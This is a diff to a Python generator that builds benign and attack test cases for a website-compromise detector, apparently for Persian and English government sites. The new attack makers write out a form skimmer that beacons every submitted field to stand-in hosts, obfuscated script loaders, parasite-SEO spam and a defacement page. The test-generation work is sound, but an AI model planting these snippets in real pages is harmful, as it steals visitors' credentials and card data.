@@ -25,7 +25,8 @@ benign/CASE/ and attack/CASE/
                 against those (the change is real) and not against base*.
 
 The `expect` file, one item per line:
-    benign CLASS            a change that must not alarm (score < 30)
+    benign CLASS            a change that must not alarm: no signal, at most
+                            recorded observations (so a score < 30)
     attack CLASS            a compromise that must alarm (score >= 30)
     site NAME               learn from site/NAME/base*.html (when the case
                             has no base*.html of its own)
@@ -37,9 +38,34 @@ The `expect` file, one item per line:
 CLASS is a short name (news_added, video_youtube, deface_full_tr, ...); the
 test counts cases, detections and false alarms per class.
 
+The classes (the generator prints how many cases each has):
+  benign  the day's noise (counters_tokens, nonces, date_rollover,
+          banner_rotated, news_added, news_week, news_about_hackers);
+          third parties in their usual role (video_*, map_*, analytics_*,
+          tagmanager_gtm, chat_*, consent_*, social_share, social_embed,
+          social_channel_links, a11y_*, captcha_*, fonts_*,
+          cdnjs_new_library, payment_gateway); the site's own moves
+          (cdn_version_bump, cms_upgrade, spa_bundle_hash, own_subdomain,
+          own_other_domain, own_keepalive_iframe, constituency_widget,
+          links_to_state_bodies, redesign_accepted); the site's own blocks
+          that look like an attacker's at first sight (notice_top_banner,
+          mourning_ribbon, announcement_modal, offcanvas_menu,
+          arabic_verse_top, english_notice_on_persian_page).
+  attack  deface_full_LANG (en fa tr id ar pt ru, with and without a
+          signature), deface_partial_* (signature, marquee of handles,
+          extortion, greetings, Turkish/Indonesian/Arabic block),
+          deface_overlay, deface_new_post, title_replaced; script_* (look-
+          alikes, bare IP, protocol-relative, user-content hosts, unknown
+          hosts, four obfuscations, miners, a new jsdelivr repository);
+          iframe_hidden_METHOD and seo_spam_METHOD (one class per way of
+          hiding), seo_spam_japanese_keywords, seo_spam_parasite_pages,
+          seo_spam_visible_links; form_hijack, form_hijack_js,
+          form_fake_payment_gateway; redirect_* (meta refresh, script,
+          on the referrer, on mobile, obfuscated).
+
 The page structures: WordPress, Joomla, Drupal, ASP.NET WebForms,
 Laravel/Bootstrap, plain PHP, legacy table layout (windows-1256), SPA shell,
-university portal, municipality, news agency, e-services portal; in
+Liferay, university portal, municipality, news agency, e-services portal; in
 Persian (rtl), English and bilingual pages. Third-party snippets are
 written as their vendors publish them; attacks as defacers, spammers and
 skimmers leave them (a family per class, varied per case).
@@ -67,6 +93,16 @@ def fa(n):
 def rng(*parts):
     """A generator of its own for each name: adding a case changes no other."""
     return random.Random(zlib.crc32(("%d:" % SEED + ":".join(map(str, parts))).encode()))
+
+
+# The index of the case within its class, set by main() before each maker
+# runs: vary() walks the variants of a family in turn, so every variant
+# appears once before any appears twice.
+CASE_INDEX = 0
+
+
+def vary(seq):
+    return seq[CASE_INDEX % len(seq)]
 
 
 def hexs(r, n):
@@ -1454,7 +1490,7 @@ def b_news_hackers(site, r):
 
 def b_youtube(site, r):
     vid = alnum(r, 11)
-    host = r.choice(["www.youtube.com", "www.youtube-nocookie.com"])
+    host = vary(["www.youtube.com", "www.youtube-nocookie.com"])
     return dict(main=f'''<div class="video-embed"><h2>{site.t("video")}</h2>
 <iframe width="560" height="315" src="https://{host}/embed/{vid}?si={alnum(r, 16)}" title="YouTube video player" frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture; web-share" referrerpolicy="strict-origin-when-cross-origin" allowfullscreen></iframe></div>
 '''), {}, []
@@ -1477,7 +1513,7 @@ def b_vimeo(site, r):
 
 def b_aparat(site, r):
     vh = alnum(r, 5).lower()
-    if r.random() < 0.5:
+    if vary([True, False]):
         snip = f'''<style>.h_iframe-aparat_embed_frame{{position:relative;}}.h_iframe-aparat_embed_frame .ratio{{display:block;width:100%;height:auto;}}.h_iframe-aparat_embed_frame iframe{{position:absolute;top:0;left:0;width:100%;height:100%;}}</style><div class="h_iframe-aparat_embed_frame"><span style="display: block;padding-top: 57%"></span><iframe src="https://www.aparat.com/video/video/embed/videohash/{vh}/vt/frame"  allowFullScreen="true" webkitallowfullscreen="true" mozallowfullscreen="true"></iframe></div>'''
     else:
         div = str(r.randrange(10**11, 10**12))
@@ -1785,7 +1821,7 @@ def b_cms_upgrade(site, r):
 def b_news_week_and_embed(site, r):
     """What a week brings at once: most news replaced and a video or map
     added to the page."""
-    mods, _, extra = r.choice([b_youtube, b_aparat if site.lang != "en" else b_vimeo, b_gmaps, b_osm])(site, r)
+    mods, _, extra = vary([b_youtube, b_aparat if site.lang != "en" else b_vimeo, b_gmaps, b_osm])(site, r)
     return mods, dict(news_off=r.choice([0, 1]), day=8, banner=2), extra
 
 
@@ -1804,7 +1840,7 @@ CDNJS_LIBS = ["Chart.js/4.4.1/chart.umd.min.js", "Swiper/11.0.5/swiper-bundle.mi
 def b_cdnjs_library(site, r):
     """A library the site never used, from cdnjs (a curated CDN: only
     published open-source libraries, no user uploads)."""
-    lib = r.choice(CDNJS_LIBS)
+    lib = vary(CDNJS_LIBS)
     return dict(end=f'<script src="https://cdnjs.cloudflare.com/ajax/libs/{lib}" integrity="sha512-{b64s(r, 64)}" crossorigin="anonymous" referrerpolicy="no-referrer"></script>\n'), {}, []
 
 
@@ -1820,7 +1856,7 @@ NOTICE = {
 
 def b_notice_top(site, r):
     """The site's own notice at the very top of the page, in its language."""
-    txt = r.choice(NOTICE["en" if site.lang == "en" else "fa"])
+    txt = vary(NOTICE["en" if site.lang == "en" else "fa"])
     return dict(top=f'''<div class="site-alert alert alert-warning text-center" role="alert" style="background:#fff3cd;color:#664d03;padding:10px;margin:0">
   {txt} <a href="/news" class="alert-link">{site.t("readmore")}</a>
 </div>
@@ -1873,7 +1909,7 @@ VERSES = ["بِسْمِ اللَّهِ الرَّحْمَٰنِ الرَّحِي
 def b_arabic_verse(site, r):
     """An Arabic verse or salutation at the top of a Persian page, for a
     religious occasion: another script and language, and benign."""
-    v = r.choice(VERSES)
+    v = vary(VERSES)
     return dict(top=f'<div class="occasion-verse" style="text-align:center;font-family:Amiri,serif;font-size:20px;padding:6px;background:#f6f1e7">{v}</div>\n'), {}, []
 
 
@@ -1889,13 +1925,117 @@ def b_english_notice(site, r):
     return dict(main=f'<section class="intl" dir="ltr" lang="en"><h2>{h}</h2><p>{x}</p><p><a href="/conference/2027">Call for papers</a></p></section>\n'), {}, []
 
 
+def b_offcanvas(site, r):
+    """A mobile menu kept off screen until opened: hidden links, all the
+    site's own."""
+    items = "".join(f'<li><a href="/{p}">{site.t(k)}</a></li>' for p, k in
+                    [("", "home"), ("about", "about"), ("news", "news"), ("services", "services"), ("contact", "contact")])
+    return dict(top=f'''<div id="mobile-menu" class="offcanvas" style="position:fixed;top:0;{'right' if site.dir == 'rtl' else 'left'}:-320px;width:300px;height:100%;z-index:1050;background:#fff;transition:all .3s" aria-hidden="true">
+<button class="offcanvas-close" aria-label="Close">&times;</button><ul class="mobile-nav">{items}</ul></div>
+<button class="menu-toggle d-md-none" aria-controls="mobile-menu">&#9776;</button>
+'''), {}, []
+
+
+def b_keepalive(site, r):
+    """A hidden iframe to the site itself that keeps the session alive (a
+    web-forms habit)."""
+    return dict(end=f'<iframe src="/KeepAlive.aspx?t={r.randrange(10**6, 10**7)}" style="display:none" width="0" height="0" title="keepalive"></iframe>\n'), {}, []
+
+
+def b_ga_legacy(site, r):
+    ua = f"UA-{r.randrange(10**7, 10**8)}-{r.randrange(1, 4)}"
+    return dict(head=f'''<script{{N}}>
+  (function(i,s,o,g,r,a,m){{i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){{
+  (i[r].q=i[r].q||[]).push(arguments)}},i[r].l=1*new Date();a=s.createElement(o),
+  m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)
+  }})(window,document,'script','https://www.google-analytics.com/analytics.js','ga');
+
+  ga('create', '{ua}', 'auto');
+  ga('send', 'pageview');
+</script>
+'''), {}, []
+
+
+def b_yandex(site, r):
+    n = r.randrange(10**7, 10**8)
+    return dict(head=f'''<!-- Yandex.Metrika counter -->
+<script type="text/javascript"{{N}}>
+   (function(m,e,t,r,i,k,a){{m[i]=m[i]||function(){{(m[i].a=m[i].a||[]).push(arguments)}};
+   m[i].l=1*new Date();
+   for (var j = 0; j < document.scripts.length; j++) {{if (document.scripts[j].src === r) {{ return; }}}}
+   k=e.createElement(t),a=e.getElementsByTagName(t)[0],k.async=1,k.src=r,a.parentNode.insertBefore(k,a)}})
+   (window, document, "script", "https://mc.yandex.ru/metrika/tag.js", "ym");
+
+   ym({n}, "init", {{
+        clickmap:true,
+        trackLinks:true,
+        accurateTrackBounce:true
+   }});
+</script>
+<noscript><div><img src="https://mc.yandex.ru/watch/{n}" style="position:absolute; left:-9999px;" alt="" /></div></noscript>
+<!-- /Yandex.Metrika counter -->
+'''), {}, []
+
+
+def b_social_embed(site, r):
+    h = reg(site.host).split(".")[0].replace("-", "_")
+    if vary([True, False]):
+        return dict(main=f'''<blockquote class="twitter-tweet"><p lang="{site.html_lang}" dir="{site.dir}">{site.news[2][0]}</p>&mdash; {site.org_en} (@{h}) <a href="https://twitter.com/{h}/status/{r.randrange(10**18, 10**19)}">{date_en(2)}</a></blockquote> <script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>
+'''), {}, []
+    return dict(main=f'''<blockquote class="instagram-media" data-instgrm-permalink="https://www.instagram.com/p/{alnum(r, 11)}/?utm_source=ig_embed&amp;utm_campaign=loading" data-instgrm-version="14" style=" background:#FFF; border:0; border-radius:3px; margin: 1px; max-width:540px; min-width:326px; padding:0; width:99.375%;"><div style="padding:16px;"><a href="https://www.instagram.com/p/{alnum(r, 11)}/?utm_source=ig_embed&amp;utm_campaign=loading" style=" background:#FFFFFF; line-height:0; padding:0 0; text-align:center; text-decoration:none; width:100%;" target="_blank">View this post on Instagram</a></div></blockquote>
+<script async src="//www.instagram.com/embed.js"></script>
+'''), {}, []
+
+
+STATE_LINKS = [("https://www.president.ir/", "پایگاه اطلاع‌رسانی ریاست جمهوری", "Presidency"),
+               ("https://www.majlis.ir/", "مجلس شورای اسلامی", "Parliament"),
+               ("https://www.eadl.ir/", "قوه قضاییه", "Judiciary"),
+               ("https://www.mporg.ir/", "سازمان برنامه و بودجه", "Plan and Budget Organisation"),
+               ("https://iran.gov.ir/", "درگاه ملی خدمات دولت", "National government portal"),
+               ("https://www.irna.ir/", "خبرگزاری ایرنا", "IRNA news agency")]
+
+
+def b_state_links(site, r):
+    """Links to other state bodies added to the page (useful links)."""
+    links = r.sample(STATE_LINKS, 4)
+    items = "".join(f'<li><a href="{u}" target="_blank">{en if site.lang == "en" else fa_}</a></li>' for u, fa_, en in links)
+    return dict(main=f'<section class="useful-links"><h2>{site.t("links")}</h2><ul>{items}</ul></section>\n'), {}, []
+
+
+def b_fontawesome_kit(site, r):
+    return dict(head=f'<script src="https://kit.fontawesome.com/{hexs(r, 10)}.js" crossorigin="anonymous"></script>\n'), {}, []
+
+
+def b_own_loader(site, r):
+    """The site's own inline loader: a script path built by concatenation,
+    or document.write of its own script, as old sites do."""
+    if vary([True, False]):
+        js = ("(function(){var s=document.createElement('script');s.async=true;"
+              f"s.src='/assets/js/'+'widgets'+'/'+'poll'+'.js?v='+{r.randrange(100, 999)};"
+              "document.getElementsByTagName('head')[0].appendChild(s);})();")
+    else:
+        js = "document.write('<script type=\"text/javascript\" src=\"/js/calendar-fa.js\"><\\/script>');"
+    return dict(end=f"<script{{N}}>{js}</script>\n"), {}, []
+
+
+def b_own_redirect(site, r):
+    """A redirect the site itself wants: phones to its mobile host, or a
+    browser in English to the English pages."""
+    d = reg(site.host)
+    if vary([True, False]):
+        js = f"if (/Android|iPhone|iPod|IEMobile/i.test(navigator.userAgent) && !/nomobile/.test(document.cookie)) {{ window.location.href = 'https://m.{d}' + window.location.pathname; }}"
+    else:
+        js = "if (!document.cookie.match(/lang=/) && (navigator.language || '').indexOf('en') === 0) { window.location.replace('/en/'); }"
+    return dict(head=f"<script{{N}}>{js}</script>\n"), {}, []
+
+
 def b_spa_bundle(site, r):
     return dict(bundle={"main": hexs(r, 8), "vendors": "8d21b7aa", "runtime": hexs(r, 8), "css": hexs(r, 8)}), {}, []
 
 
 def b_own_subdomain(site, r):
     d = reg(site.host)
-    kind = r.choice(["cdn", "static", "stats", "files"])
+    kind = vary(["cdn", "static", "stats", "files"])
     if kind == "stats":
         return dict(end=f'<script async src="https://stats.{d}/js/script.js" data-domain="{site.host}"></script>\n'), {}, []
     if kind == "files":
@@ -2038,7 +2178,7 @@ def a_deface_full(lang, sig):
         style = r.choice(["background:#000;color:#0f0;font-family:monospace",
                           "background:#111 url(https://i.imgur.com/%s.gif) no-repeat center;color:#fff" % alnum(r, 7),
                           "background:black;color:white;font-family:Courier New"])
-        music = r.choice(["", f'<iframe width="0" height="0" src="https://www.youtube.com/embed/{alnum(r, 11)}?autoplay=1&loop=1" frameborder="0"></iframe>',
+        music = vary(["", f'<iframe width="0" height="0" src="https://www.youtube.com/embed/{alnum(r, 11)}?autoplay=1&loop=1" frameborder="0"></iframe>',
                           f'<audio src="https://files.catbox.moe/{alnum(r, 6).lower()}.mp3" autoplay loop></audio>'])
         html = f'''<!DOCTYPE html>
 <html dir="{d}"><head><meta charset="utf-8"><title>{title}</title>
@@ -2061,7 +2201,7 @@ def top_block(inner, r, style=None):
 
 
 def a_partial_sig(site, r):
-    lang = r.choice(["en", "fa", "tr", "id"])
+    lang = vary(["en", "fa", "tr", "id"])
     crew = r.choice(CREWS[lang])
     inner = {
         "en": f"<h1>Hacked by {crew}</h1><p>Admin, your security is poor. Patch your CMS.</p>",
@@ -2132,7 +2272,7 @@ def _overlay(site, r, sig):
         crew = r.choice(CREWS["en"] + CREWS["tr"])
         inner = f"<h1>Hacked by {crew}</h1><p>Your site is ours. Greetz to all.</p>"
     else:
-        lang = r.choice(["en", "ar", "tr"])
+        lang = vary(["en", "ar", "tr"])
         inner = NOSIG_FULL[lang][1]
     return dict(top=f'''<div id="{alnum(r, 6)}" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647;background:#000;color:#fff;text-align:center;padding-top:10%">
 {inner}
@@ -2148,7 +2288,7 @@ def a_new_post(sig):
             crew = r.choice(CREWS["en"] + CREWS["id"] + CREWS["tr"])
             item = (f"Hacked by {crew}", f"Your site has been hacked by {crew}. Admin, patch your system. Greetz to all members.")
         else:
-            lang = r.choice(["en", "tr", "id", "ar", "ru"])
+            lang = vary(["en", "tr", "id", "ar", "ru"])
             title, body = NOSIG_FULL[lang]
             txt = body.split("<p>", 1)[1].split("</p>", 1)[0]
             item = (title, txt)
@@ -2167,8 +2307,18 @@ def a_japanese_seo(site, r):
     return dict(title=f"{kw} - {r.choice(JP_SPAM)}", main=f"<div class=\"kw\"><h2>{kw}</h2>\n{links}\n</div>\n"), {}, []
 
 
+def a_deface_image(site, r):
+    """A full defacement that is nothing but an image and a title."""
+    crew = r.choice(CREWS["en"] + CREWS["tr"] + CREWS["id"])
+    title = vary([f"Hacked By {crew}", "./0wn3d", crew, "index"])
+    html = f'''<html><head><title>{title}</title></head>
+<body bgcolor="black"><center><img src="https://i.ibb.co/{alnum(r, 7)}/{alnum(r, 6).lower()}.jpg" width="100%"></center></body></html>
+'''
+    return dict(full=html), {}, []
+
+
 def a_title(site, r):
-    title = r.choice([f"Hacked By {r.choice(CREWS['en'])}", "Situs Slot Gacor Hari Ini Gampang Maxwin 2026",
+    title = vary([f"Hacked By {r.choice(CREWS['en'])}", "Situs Slot Gacor Hari Ini Gampang Maxwin 2026",
                       "خرید فالوور ارزان اینستاگرام", "سایت شرط بندی معتبر | بونوس ویژه", f"Owned by {handle(r)}",
                       "Viagra Online Kaufen Ohne Rezept", f"هک شد | {r.choice(CREWS['fa'])}"])
     return dict(title=title), {}, []
@@ -2224,7 +2374,7 @@ FOREIGN = ["cdn-analytics-stat.xyz", "jscdn.pw", "statcounter-cdn.top", "metrics
 def a_user_host(site, r):
     """A script from a host anyone can publish on: raw GitHub, a gist, a
     github.io page, a pastebin, a tunnel."""
-    u = r.choice([f"https://raw.githubusercontent.com/{handle(r)}/js/main/loader.js",
+    u = vary([f"https://raw.githubusercontent.com/{handle(r)}/js/main/loader.js",
                   f"https://gist.githubusercontent.com/{handle(r)}/{hexs(r, 32)}/raw/x.js",
                   f"https://{handle(r).replace('_', '-')}.github.io/cdn/jquery.min.js",
                   f"https://pastebin.com/raw/{alnum(r, 8)}",
@@ -2234,7 +2384,7 @@ def a_user_host(site, r):
 
 def a_unknown_host(site, r):
     """A script from an ordinary-looking host nobody on the site uses."""
-    h = r.choice(["cdn.statistic-counter.com", "js.webanalytics-pro.net", "api.jqueryui-cdn.org",
+    h = vary(["cdn.statistic-counter.com", "js.webanalytics-pro.net", "api.jqueryui-cdn.org",
                   "static.site-speedup.com", "cdn.widgetsplus.io"])
     return {r.choice(["head", "end"]): f'<script type="text/javascript" src="https://{h}/{r.choice(["track", "widget", "speed", "lib"])}.min.js?ver={r.randrange(1, 9)}.{r.randrange(0, 9)}"></script>\n'}, {}, []
 
@@ -2273,7 +2423,7 @@ def a_obf_hex(site, r):
 def a_obf_atob(site, r):
     u = _url(r)
     tag = f'<script src="{u}"></script>'
-    if r.random() < 0.5:
+    if vary([True, False]):
         js = f'document.write(atob("{base64.b64encode(tag.encode()).decode()}"));'
     else:
         js = f'var s=document.createElement("script");s.src=atob("{base64.b64encode(u.encode()).decode()}");document.body.appendChild(s);'
@@ -2287,8 +2437,23 @@ def a_obf_charcode(site, r):
 '''), {}, []
 
 
+def a_obf_unescape(site, r):
+    u = _url(r)
+    tag = f'<script type="text/javascript" src="{u}"></script>'
+    enc = "".join("%%%02X" % ord(c) for c in tag)
+    return dict(end=f"<script{{N}}>document.write(unescape('{enc}'));</script>\n"), {}, []
+
+
+def a_skimmer(site, r):
+    """A skimmer: the page's forms are read on submit and sent away in an
+    image beacon (nothing is loaded, the data leaves)."""
+    h = vary(["cdn-stat-img.top", "pixel-counter.xyz", "img-cache-cdn.online"])
+    return dict(end=f'''<script{{N}}>document.addEventListener("submit",function(e){{try{{var f=e.target,d=[];for(var i=0;i<f.elements.length;i++){{var x=f.elements[i];if(x.name&&x.value)d.push(x.name+"="+x.value);}}new Image().src="https://{h}/p.gif?d="+btoa(unescape(encodeURIComponent(d.join("&"))))+"&s="+location.host;}}catch(_){{}}}},true);</script>
+'''), {}, []
+
+
 def a_miner(site, r):
-    k = r.randrange(4)
+    k = vary([0, 1, 2, 3])
     key = alnum(r, 32)
     if k == 0:
         s = f'''<script src="https://coinhive.com/lib/coinhive.min.js"></script>
@@ -2310,7 +2475,7 @@ def a_jsdelivr_gh(site, r):
     user = handle(r)
     repo = r.choice(["assets", "cdn", "js", "static", "jquery-plugins", "lib"])
     f = r.choice(["main.js", "jquery.min.js", "app.min.js", "x.js"])
-    if r.random() < 0.75:
+    if vary([True, True, False]):
         u = f"https://cdn.jsdelivr.net/gh/{user}/{repo}@{r.choice(['main', 'master', '1.0', 'latest'])}/{f}"
     else:
         u = f"https://cdn.jsdelivr.net/npm/{user.replace('_', '-')}-utils@1.0.{r.randrange(0, 9)}/dist/{f}"
@@ -2338,7 +2503,7 @@ def a_iframe_hidden(method):
             c = "c" + alnum(r, 5).lower()
             attrs = attrs.replace("{C}", c)
             pre = f"<style>.{c}{{display:none!important}}</style>\n"
-        src = r.choice([f"http://{h}/in.cgi?{r.randrange(2, 30)}", f"https://{h}/go.php?sid={r.randrange(100, 999)}",
+        src = vary([f"http://{h}/in.cgi?{r.randrange(2, 30)}", f"https://{h}/go.php?sid={r.randrange(100, 999)}",
                         f"//{h}/index.php"])
         return {r.choice(["end", "end", "main", "top"]): f'{pre}<iframe src="{src}" {attrs}></iframe>\n'}, {}, []
     return f
@@ -2381,10 +2546,29 @@ def a_seo_spam(method, lang):
     return f
 
 
+def a_parasite(site, r):
+    """Parasite SEO: gambling pages uploaded to the site itself and linked
+    from its home page, so every link stays on the site's own host."""
+    lang = vary(["id", "fa", "en"])
+    words = SPAM[lang][0]
+    d = vary(["wp-content/uploads/2026/11", "images/stories", "public/files", "uploads/docs"])
+    links = "\n".join(f'<a href="/{d}/{w.replace(" ", "-")}-{r.randrange(1, 99)}.html">{w}</a>' for w in r.sample(words, 6))
+    attrs = vary(['style="display:none"', 'style="position:absolute;left:-9000px"', 'class="footer-links"'])
+    return {vary(["end", "main"]): f"<div {attrs}>\n{links}\n</div>\n"}, {}, []
+
+
+def a_visible_spam(site, r):
+    """Gambling links added in plain sight to the footer area."""
+    lang = vary(["fa", "id"])
+    words, hosts, tlds = SPAM[lang]
+    links = " | ".join(f'<a href="https://{r.choice(hosts)}{r.randrange(1, 99)}.{r.choice(tlds)}/">{w}</a>' for w in r.sample(words, 5))
+    return dict(end=f'<div class="partners" style="text-align:center;font-size:12px">{links}</div>\n'), {}, []
+
+
 def a_form_hijack(site, r):
     own = reg(site.host)
     label = own.split(".")[0]
-    tgt = r.choice([f"https://{label}-login.verify-account.top/auth.php",
+    tgt = vary([f"https://{label}-login.verify-account.top/auth.php",
                     f"http://{r.choice([185, 91, 45])}.{r.randrange(1, 254)}.{r.randrange(1, 254)}.{r.randrange(2, 254)}/post.php",
                     f"https://secure-{label}.com/login/submit",
                     f"https://{r.choice(FOREIGN)}/collect.php"])
@@ -2394,7 +2578,7 @@ def a_form_hijack(site, r):
 def a_fake_gateway(site, r):
     """A payment form that posts to an imitation of a Shaparak gateway:
     card numbers and PINs collected by the attacker."""
-    host = r.choice(["sep-shaparak.ir.verify-pay.top", "shaparak-ir.com", "bpm.shaparak.ir-pay.xyz",
+    host = vary(["sep-shaparak.ir.verify-pay.top", "shaparak-ir.com", "bpm.shaparak.ir-pay.xyz",
                      "sep.shaparrak.ir", "ipg-shaparak.online"])
     t = site.t
     return dict(main=f'''<section class="payment"><h2>{t("pay")}</h2>
@@ -2424,21 +2608,21 @@ def a_redirect_meta(site, r):
 
 def a_redirect_js(site, r):
     h = r.choice(REDIR)
-    js = r.choice([f'window.location.href = "https://{h}/";', f"location.replace('https://{h}/?s={r.randrange(100)}');",
+    js = vary([f'window.location.href = "https://{h}/";', f"location.replace('https://{h}/?s={r.randrange(100)}');",
                    f'setTimeout(function(){{ top.location = "https://{h}/go"; }}, 1500);'])
     return dict(head=f"<script{{N}}>{js}</script>\n"), {}, []
 
 
 def a_redirect_referrer(site, r):
     h = r.choice(REDIR)
-    js = r.choice([f'if (document.referrer.indexOf("google") > -1 || document.referrer.indexOf("bing") > -1) {{ window.location.href = "https://{h}/?ref={reg(site.host)}"; }}',
+    js = vary([f'if (document.referrer.indexOf("google") > -1 || document.referrer.indexOf("bing") > -1) {{ window.location.href = "https://{h}/?ref={reg(site.host)}"; }}',
                    f'var r=document.referrer;if(/google|yahoo|bing|yandex/i.test(r)){{window.location.replace("https://{h}/");}}'])
     return dict(head=f"<script{{N}}>{js}</script>\n"), {}, []
 
 
 def a_redirect_mobile(site, r):
     h = r.choice(REDIR)
-    js = r.choice([f'if (/Android|webOS|iPhone|iPad|iPod|BlackBerry|IEMobile|Opera Mini/i.test(navigator.userAgent)) {{ window.location = "https://{h}/m/"; }}',
+    js = vary([f'if (/Android|webOS|iPhone|iPad|iPod|BlackBerry|IEMobile|Opera Mini/i.test(navigator.userAgent)) {{ window.location = "https://{h}/m/"; }}',
                    f'var ua=navigator.userAgent.toLowerCase();if(ua.indexOf("mobile")!=-1||ua.indexOf("android")!=-1){{document.location.href="https://{h}/";}}'])
     return dict(head=f"<script{{N}}>{js}</script>\n"), {}, []
 
@@ -2446,7 +2630,7 @@ def a_redirect_mobile(site, r):
 def a_redirect_obf(site, r):
     h = r.choice(REDIR)
     u = f"https://{h}/"
-    k = r.randrange(3)
+    k = vary([0, 1, 2])
     if k == 0:
         js = f'eval(atob("{base64.b64encode(("window.location.href=" + repr(u) + ";").encode()).decode()}"));'
     elif k == 1:
@@ -2469,6 +2653,9 @@ CMS = ["liferay_fa", "wp_fa", "wp_en", "joomla_fa", "joomla_bi", "drupal_en", "d
 OWN2 = [s.id for s in SITES if any(x != reg(s.host) for x in s.own)]
 GOVWIN = [s.id for s in SITES if GOV_WINDOW in s.others]
 SPA = [s.id for s in SITES if s.struct == "spa"]
+# An SPA shell's content is drawn by its bundle: a site adds videos, maps
+# and text blocks there, not to the shell's HTML.
+CONTENT = [s for s in ALL if s not in SPA]
 JSDELIVR = [s.id for s in SITES if any("cdn.jsdelivr.net" in u for u in s.cdn)]
 
 # (class, count, eligible sites, maker)
@@ -2480,13 +2667,13 @@ BENIGN = [
     ("news_added", 12, [s for s in ALL if s not in SPA], b_news_added),
     ("news_week", 10, [s for s in ALL if s not in SPA], b_news_week),
     ("news_about_hackers", 4, [s for s in ALL if s not in SPA], b_news_hackers),
-    ("video_youtube", 5, ALL, b_youtube),
-    ("video_youtube_nocookie", 3, ALL, b_youtube_nocookie),
-    ("video_vimeo", 4, ALL, b_vimeo),
-    ("video_aparat", 5, FA, b_aparat),
-    ("map_google", 4, ALL, b_gmaps),
-    ("map_osm", 3, ALL, b_osm),
-    ("map_neshan", 3, FA, b_neshan),
+    ("video_youtube", 5, CONTENT, b_youtube),
+    ("video_youtube_nocookie", 3, CONTENT, b_youtube_nocookie),
+    ("video_vimeo", 4, CONTENT, b_vimeo),
+    ("video_aparat", 5, [x for x in FA if x not in SPA], b_aparat),
+    ("map_google", 4, CONTENT, b_gmaps),
+    ("map_osm", 3, CONTENT, b_osm),
+    ("map_neshan", 3, [x for x in FA if x not in SPA], b_neshan),
     ("analytics_gtag", 5, ALL, b_gtag),
     ("tagmanager_gtm", 5, ALL, b_gtm),
     ("analytics_matomo_own", 5, ALL, b_matomo),
@@ -2495,21 +2682,21 @@ BENIGN = [
     ("chat_raychat", 3, FA, b_raychat),
     ("chat_crisp", 3, ALL, b_crisp),
     ("chat_tawk", 3, ALL, b_tawk),
-    ("consent_cookiebot", 2, ALL, b_cookiebot),
+    ("consent_cookiebot", 3, ALL, b_cookiebot),
     ("consent_onetrust", 3, ALL, b_onetrust),
-    ("consent_cookieyes", 2, ALL, b_cookieyes),
-    ("consent_own_banner", 2, ALL, b_consent_own),
+    ("consent_cookieyes", 3, ALL, b_cookieyes),
+    ("consent_own_banner", 3, ALL, b_consent_own),
     ("social_share", 5, [s for s in ALL if s not in SPA], b_share),
     ("a11y_userway", 3, ALL, b_userway),
     ("a11y_equalweb", 3, ALL, b_equalweb),
     ("captcha_recaptcha", 3, FORMS, b_recaptcha),
-    ("captcha_hcaptcha", 2, FORMS, b_hcaptcha),
-    ("captcha_turnstile", 2, FORMS, b_turnstile),
+    ("captcha_hcaptcha", 3, FORMS, b_hcaptcha),
+    ("captcha_turnstile", 3, FORMS, b_turnstile),
     ("captcha_arcaptcha", 3, FORMS, b_arcaptcha),
     ("cdn_version_bump", 6, CDN, b_cdn_bump),
     ("cms_upgrade", 9, CMS, b_cms_upgrade),
-    ("spa_bundle_hash", 2, SPA, b_spa_bundle),
-    ("own_subdomain", 7, ALL, b_own_subdomain),
+    ("spa_bundle_hash", 3, SPA, b_spa_bundle),
+    ("own_subdomain", 7, CONTENT, b_own_subdomain),
     ("own_other_domain", 3, OWN2, b_own_other_domain),
     ("constituency_widget", 3, GOVWIN, b_constituency_widget),
     ("news_week_and_embed", 5, [s for s in ALL if s not in SPA], b_news_week_and_embed),
@@ -2520,6 +2707,15 @@ BENIGN = [
     ("social_channel_links", 5, [s for s in ALL if s not in SPA], b_channels),
     ("arabic_verse_top", 3, [s for s in FA if s not in SPA], b_arabic_verse),
     ("english_notice_on_persian_page", 3, [s for s in FA if s not in SPA and SITE[s].lang == "fa"], b_english_notice),
+    ("offcanvas_menu", 3, [x for x in ALL if x not in SPA], b_offcanvas),
+    ("own_keepalive_iframe", 3, [x for x in ALL if SITE[x].struct in ("aspnet", "municipality", "eservices")], b_keepalive),
+    ("analytics_ga_legacy", 3, ALL, b_ga_legacy),
+    ("analytics_yandex", 3, ALL, b_yandex),
+    ("social_embed", 3, [x for x in ALL if x not in SPA], b_social_embed),
+    ("links_to_state_bodies", 3, [x for x in ALL if x not in SPA], b_state_links),
+    ("fonts_fontawesome_kit", 3, ALL, b_fontawesome_kit),
+    ("own_inline_loader", 3, ALL, b_own_loader),
+    ("own_conditional_redirect", 3, ALL, b_own_redirect),
     ("announcement_modal", 3, [s for s in ALL if SITE[s].struct in ("laravel", "eservices", "university", "wordpress", "drupal")], b_modal),
 ]
 
@@ -2536,9 +2732,10 @@ ATTACK += [
     ("deface_partial_indonesian_block", 3, [s for s in FA if s not in SPA], a_indonesian_block),
     ("deface_partial_arabic_block", 3, [s for s in EN if s not in SPA], a_arabic_block),
     ("title_replaced", 5, ALL, a_title),
+    ("deface_full_image_only", 3, ALL, a_deface_image),
     ("deface_new_post", 2, [x for x in ALL if x not in SPA], a_new_post(True)),
     ("deface_new_post", 2, [x for x in ALL if x not in SPA], a_new_post(False)),
-    ("seo_spam_japanese_keywords", 2, ALL, a_japanese_seo),
+    ("seo_spam_japanese_keywords", 3, ALL, a_japanese_seo),
     ("deface_overlay", 2, ALL, a_overlay(True)),
     ("deface_overlay", 2, ALL, a_overlay(False)),
     ("script_user_content_host", 4, ALL, a_user_host),
@@ -2550,6 +2747,8 @@ ATTACK += [
     ("script_obfuscated_atob", 3, ALL, a_obf_atob),
     ("script_obfuscated_charcode", 3, ALL, a_obf_charcode),
     ("script_cryptominer", 4, ALL, a_miner),
+    ("script_obfuscated_unescape", 3, ALL, a_obf_unescape),
+    ("script_skimmer_beacon", 3, FORMS, a_skimmer),
     ("script_jsdelivr_user_content", 2, JSDELIVR, a_jsdelivr_gh),
     ("script_jsdelivr_user_content", 2, ALL, a_jsdelivr_gh),
 ]
@@ -2561,16 +2760,17 @@ for k in range(len(PSP) + len(GOV_PAY)):
